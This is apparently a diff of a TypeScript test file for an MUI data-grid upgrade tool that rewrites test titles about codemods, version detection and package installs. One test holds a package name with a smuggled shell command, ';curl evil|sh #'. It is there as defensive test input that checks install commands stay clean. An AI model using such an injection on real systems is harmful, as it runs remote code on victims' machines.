@@ -8,7 +8,7 @@ import { runCodemods } from '../../upgrade/runCodemods';
 import type { Releases, UpgradeFacts } from '../../upgrade/types';
 import { upgradeFiles } from '../../upgrade/upgradeFiles';
 
-/** What a comparison says of a grid with two renamed props, a removed one and a renamed type. */
+/** Comparison of a grid with two renamed props, a removed one and a renamed type. */
 const FACTS: UpgradeFacts = {
   from: 'v6',
   to: 'current',
@@ -50,7 +50,7 @@ export const Grid = () => (
 );
 `;
 
-test('files are written as far as names say, and the rest is left', () => {
+test('rewrites names that have a replacement, and lists the rest', () => {
   const { files, codemods, left } = upgradeFiles(
     [{ name: 'Grid.tsx', text: CODE }],
     { whole: FACTS, steps: [FACTS] },
@@ -70,7 +70,7 @@ export const Grid = () => (
   ]);
 });
 
-test('names that the later version lacks are left, whether a codemod wrote them or not', () => {
+test('lists names that the later version lacks, even if a codemod wrote them', () => {
   const names = {
     'data-grid': { DataGrid: ['rows', 'columnHeight', 'slots', 'slots.toolbar'], GridNow: null },
   };
@@ -93,7 +93,7 @@ test('names that the later version lacks are left, whether a codemod wrote them 
   ]);
 });
 
-test('a codemod that fails leaves the file to the rest', () => {
+test('continues without a codemod that fails', () => {
   const { files, left } = upgradeFiles(
     [{ name: 'Grid.tsx', text: CODE }],
     { whole: FACTS, steps: [FACTS] },
@@ -105,7 +105,7 @@ test('a codemod that fails leaves the file to the rest', () => {
   expect(files[0]!.after).toContain('columnHeight={40}');
 });
 
-test('a file that cannot be parsed is said with its place', () => {
+test('reports a file that cannot be parsed, with the location', () => {
   const { hits, failures } = findHits([{ name: 'a.tsx', text: 'const = 1;' }], FACTS);
   expect(hits).toEqual([]);
   expect(failures[0]).toMatchObject({
@@ -145,7 +145,7 @@ test.each([
   ).toBe(after);
 });
 
-test('a difference has the lines that are the same between those that changed', () => {
+test('a diff keeps unchanged lines between changed ones', () => {
   expect(diffLines('a\nb\nc\nd', 'a\nx\nc\ny\nd')).toEqual([
     { kind: 'same', text: 'a', line: 1 },
     { kind: 'removed', text: 'b', line: 2 },
@@ -156,7 +156,7 @@ test('a difference has the lines that are the same between those that changed', 
   ]);
 });
 
-test('an upgrade goes through the versions between', () => {
+test('an upgrade goes through all intermediate versions', () => {
   expect(stepsOf({ from: 'v5', to: 'next' })).toEqual([
     { from: 'v5', to: 'v6' },
     { from: 'v6', to: 'current' },
@@ -164,13 +164,13 @@ test('an upgrade goes through the versions between', () => {
   ]);
 });
 
-test('the earliest version of the library among the packages counts', () => {
+test('detects the earliest version among the packages', () => {
   expect(detectVersion({ '@mui/x-data-grid': '^6.1.0', '@mui/x-charts': '~7.0.0' })).toBe('v6');
   expect(detectVersion({ '@material-ui/data-grid': '4.0.0-alpha.37' })).toBe('v4');
   expect(detectVersion({ react: '18' })).toBeNull();
 });
 
-test('packages are installed in the later release, with the license and the peers that do not fit', () => {
+test('installs the later release, its license package and incompatible peers', () => {
   const releases: Releases = {
     current: [
       {
@@ -209,7 +209,7 @@ test.each([
   ['what fits', { '@mui/material': '^7.0.1', react: '^18.2.0' }],
   ['what is unknown', {}],
   ['what is later than every range', { react: '^19.0.0', '@mui/material': 'latest' }],
-])('no peer is installed in place of %s', (_what, declared) => {
+])('does not replace a peer that %s', (_what, declared) => {
   const { install } = packagesFor(
     ['@mui/x-data-grid'],
     declared,
@@ -219,14 +219,14 @@ test.each([
   expect(install).toEqual(['@mui/x-data-grid@7.28.3']);
 });
 
-test('a package that is later than the release stays', () => {
+test('keeps a package that is newer than the release', () => {
   const declared = { '@mui/x-data-grid': '^6.0.0', '@mui/x-date-pickers': '^8.1.0' };
   expect(packagesFor([], declared, { from: 'v6', to: 'current' }, LATER).install).toEqual([
     '@mui/x-data-grid@7.28.3',
   ]);
 });
 
-test('commands have names of packages only', () => {
+test('commands contain only valid package names', () => {
   const declared = {
     '@material-ui/data-grid': '4',
     '@material-ui/data-grid;curl evil|sh #': '4',
@@ -245,7 +245,7 @@ const upgradeGrid = (text: string, codemod = (code: string) => code) =>
     codemod: 'test',
   }));
 
-test('a prop is not renamed to one that the element has', () => {
+test('does not rename a prop to one that the element already has', () => {
   const text = `import { DataGrid } from '@mui/x-data-grid';
 export const a = <DataGrid headHeight={40} columnHeight={50} />;
 `;
@@ -257,7 +257,7 @@ export const a = <DataGrid headHeight={40} columnHeight={50} />;
 test.each([
   ['drop a comment', (code: string) => code.replace('/* all */ ', '')],
   ['give the prop rows twice', (code: string) => code.replace('id="a"', 'rows={[]}')],
-])('a codemod that would %s does not run', (loss, codemod) => {
+])('does not apply a codemod that would %s', (loss, codemod) => {
   const text = `import { DataGrid } from '@mui/x-data-grid';
 export const a = <DataGrid /* all */ rows={[]} id="a" headHeight={40} />;
 `;
